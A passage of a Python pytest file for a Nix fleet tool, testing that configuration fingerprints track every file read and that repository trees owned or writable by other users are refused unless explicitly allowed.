        if str(file) not in looked_at:
            file.write_text('"another"')
    for directory in [path for path in place.rglob("*") if path.is_dir() and not path.is_symlink()]:
        if not directory.is_relative_to(place / "repo") or ".cache" in directory.parts:
            (directory / "new.nix").write_text('"new"')
    assert look(fleet).fingerprint == seen.fingerprint
    assert fleet_eval.evaluate(look(fleet), fleet) == before


SEEN = ("repo", "repo/lib", "repo/lib/deep", "repo/hosts")
UNSEEN = ("repo/.cache", "repo/lib/node_modules", "out", "out/a")
DIRECTORIES = (*SEEN, *SEEN, *UNSEEN)


def draw_graph(data: st.DataObject, place: Path) -> list[Path]:
    """Files of Nix in and around a repository, the later ones using earlier ones."""
    for name in (*SEEN, *UNSEEN):
        (place / name).mkdir(parents=True)
    (place / "repo" / ".git").mkdir()
    files: list[Path] = []
    for number in range(data.draw(st.integers(2, 7), "files")):
        directory = place / data.draw(st.sampled_from(DIRECTORIES), "in")
        name = data.draw(st.sampled_from([f"f{number}.nix", f"d{number}", f"f{number}.txt"]), "name")
        file = directory / name
        uses = data.draw(st.lists(st.sampled_from(files), max_size=3), "uses") if files else []
        parts = [data.draw(st.sampled_from(uses_of(used, directory)), "how") for used in uses]
        text = "[ " + " ".join([f'"{number}"', *(f"({part})" for part in parts)]) + " ]"
        if not file.suffix:
            file.mkdir()
            (file / "default.nix").write_text("import ./body.nix")
            (file / "body.nix").write_text(text)
        else:
            file.write_text(text)
        files.append(file)
        if data.draw(st.integers(0, 3), "link") == 0:
            link = place / data.draw(st.sampled_from(DIRECTORIES), "link in") / f"l{number}.nix"
            target = data.draw(st.sampled_from([file, file.parent]), "to")
            absolute = data.draw(st.booleans(), "absolute")
            link.symlink_to(target if absolute else os.path.relpath(target, link.parent))
            files.append(link if target == file else link / file.name)
    return files


def uses_of(used: Path, directory: Path) -> list[str]:
    relative = os.path.relpath(used, directory)
    relative = relative if relative.startswith("..") else f"./{relative}"
    return [
        f"import {used}",
        f"import {relative}",
        f'import "{used}"',
        f'import (toString {directory} + "/{relative}")',
        f"builtins.pathExists {relative}",
        f"builtins.readFileType {relative}",
        f"builtins.attrNames (builtins.readDir {os.path.dirname(used)})",  # noqa: PTH120
        f'builtins.unsafeDiscardStringContext "${{{relative}}}"',
        f'builtins.unsafeDiscardStringContext "${{{os.path.dirname(used)}}}"',  # noqa: PTH120
        f"builtins.hashFile \"sha256\" {relative}",
        f"builtins.scopedImport {{ }} {relative}",
        f'(builtins.tryEval (builtins.readFile {relative})).success',
        f'builtins.unsafeDiscardStringContext (builtins.filterSource (p: t: true) {os.path.dirname(used)})',  # noqa: PTH120
    ]  # fmt: skip


# Whose it is


@pytest.fixture
def somebody() -> int:
    """A user that is not root."""
    return pwd.getpwnam("nobody").pw_uid


@NEEDS_ROOT
@pytest.mark.parametrize("what", [".", "hosts.nix", "vms", "vms/definitions.nix", ".git"])
def test_a_tree_of_somebody_else_is_refused(
    repository: Path, somebody: int, monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    os.chown(repository / what, somebody, -1)
    place = (repository / what).resolve()
    with pytest.raises(Refused) as caught:
        load_fleet(repository)
    assert str(caught.value) == (
        f"{place}: belongs to nobody, who could decide what is done here; chown it, or set "
        f"NIXHERD_SAFE_DIRECTORY={repository} to allow it"
    )
    monkeypatch.setenv("NIXHERD_SAFE_DIRECTORY", "/elsewhere")
    with pytest.raises(Refused):
        load_fleet(repository)
    for word in (str(repository), f"/elsewhere:{repository}/", "*"):
        monkeypatch.setenv("NIXHERD_SAFE_DIRECTORY", word)
        assert load_fleet(repository).hosts


@NEEDS_ROOT
def test_it_is_refused_in_the_middle_of_a_run_too(repository: Path, somebody: int) -> None:
    loaded = Definitions.load(repository)
    os.chown(repository, somebody, -1)
    with pytest.raises(Refused, match=r"belongs to nobody.*; refusing any change"):
        loaded.policy()
    os.chown(repository, 0, -1)
    assert loaded.policy().may_change(110)


@NEEDS_ROOT
def test_whoever_called_sudo_may_have_it(repository: Path, somebody: int, monkeypatch: pytest.MonkeyPatch) -> None:
    subprocess.run(["chown", "-R", str(somebody), repository], check=True)
    monkeypatch.setenv("SUDO_UID", str(somebody))
    assert load_fleet(repository).hosts
    monkeypatch.setenv("SUDO_UID", str(somebody - 1))
    with pytest.raises(Refused, match="belongs to nobody"):
        load_fleet(repository)


@pytest.mark.parametrize("what", [".", "hosts.nix", "vms", "vms/definitions.nix"])
def test_a_tree_that_everybody_may_write_is_refused(repository: Path, what: str) -> None:
    place = (repository / what).resolve()
    place.chmod(place.stat().st_mode | 0o002)
    with pytest.raises(
        Refused, match=rf"^{place}: can be written by everybody, .*; chmod go-w it, or set NIXHERD_SAFE"
    ):
        load_fleet(repository)


def test_a_repository_around_it_counts(make_fleet: MakeFleet) -> None:
    directory = make_fleet(name="repository/way/fleet")
    (directory.parents[1] / ".git").mkdir()
    for place in directory.parents[:2]:
        place.chmod(0o757)
        with pytest.raises(Refused, match=rf"^{place}: can be written by everybody"):
            load_fleet(directory)
        place.chmod(0o755)
    assert load_fleet(directory).hosts


@NEEDS_ROOT
def test_a_group_counts_when_somebody_else_is_in_it(repository: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    group = grp.getgrnam("mail").gr_gid
    os.chown(repository, -1, group)
    repository.chmod(0o775)
    monkeypatch.setattr(ownership, "_members", lambda gid: frozenset({os.geteuid(), 0}))
    assert load_fleet(repository).hosts
    monkeypatch.setattr(ownership, "_members", lambda gid: frozenset({os.geteuid(), 65534}))
    with pytest.raises(Refused, match="can be written by the group mail, which nobody is in"):
        load_fleet(repository)


def test_who_is_in_a_group() -> None:
    for group in grp.getgrall():
        names = {pwd.getpwuid(uid).pw_name for uid in ownership._members(group.gr_gid)}
        known = {name for name in group.gr_mem if name in {user.pw_name for user in pwd.getpwall()}}
        assert known <= names
    assert pwd.getpwnam("nobody").pw_uid in ownership._members(pwd.getpwnam("nobody").pw_gid)
    assert ownership._members(987_654) == frozenset()


@NEEDS_ROOT
def test_a_file_of_somebody_else_in_our_tree_cannot_be_read(repository: Path, somebody: int) -> None:
    (repository / "theirs.nix").write_text("1")
    assert load_fleet(repository).hosts
    os.chown(repository / "theirs.nix", somebody, -1)
    assert load_fleet(repository).hosts  # nobody reads it
    for expression in ("import ./theirs.nix", "builtins.readFile ./theirs.nix"):
        say(repository, expression)
        with pytest.raises(
            FleetInvalid, match=r"hosts\.nix:7:\d+: builtins\.\w+: theirs\.nix belongs to nobody; chown it$"
        ):
            load_fleet(repository)


def test_a_path_of_the_store_is_roots(make_fleet: MakeFleet, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    directory = make_fleet()
    (directory / "flake.nix").write_text("{ outputs = _: { }; }")
    found = resolve(f"path:{directory}").path
    assert look(found).root == str(found)
    assert load_fleet(found).hosts
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    assert look(found).fingerprint


def test_what_we_may_not_enter_is_not_seen(repository: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (repository / "data").mkdir()
    scandir = os.scandir

    def denied(path: str) -> Any:
        if path == f"{repository}/data":
            raise PermissionError(13, "Permission denied", path)
        return scandir(path)

    monkeypatch.setattr(os, "scandir", denied)
    assert load_fleet(repository).hosts
    say(repository, "builtins.pathExists ./data/x")
    with pytest.raises(FleetInvalid, match=r"hosts\.nix:7:\d+: .*data cannot be read; see to its rights$"):
        load_fleet(repository)


def test_gits_own_directory_is_no_fleet(make_fleet: MakeFleet) -> None:
    directory = make_fleet(name="repository/.git/fleet")
    with pytest.raises(Refused, match="lies in git's own directory"):
        load_fleet(directory)


def test_many_files_are_looked_at_in_little_time(repository: Path) -> None:
    for number in range(30):
        directory = repository / "data" / str(number)
        directory.mkdir(parents=True)
        for each in range(100):
            (directory / f"{each}.txt").touch()
    began = time.monotonic()
    assert len(look(repository).fingerprint) > 3000
    assert time.monotonic() - began < 1  # 15 ms by itself
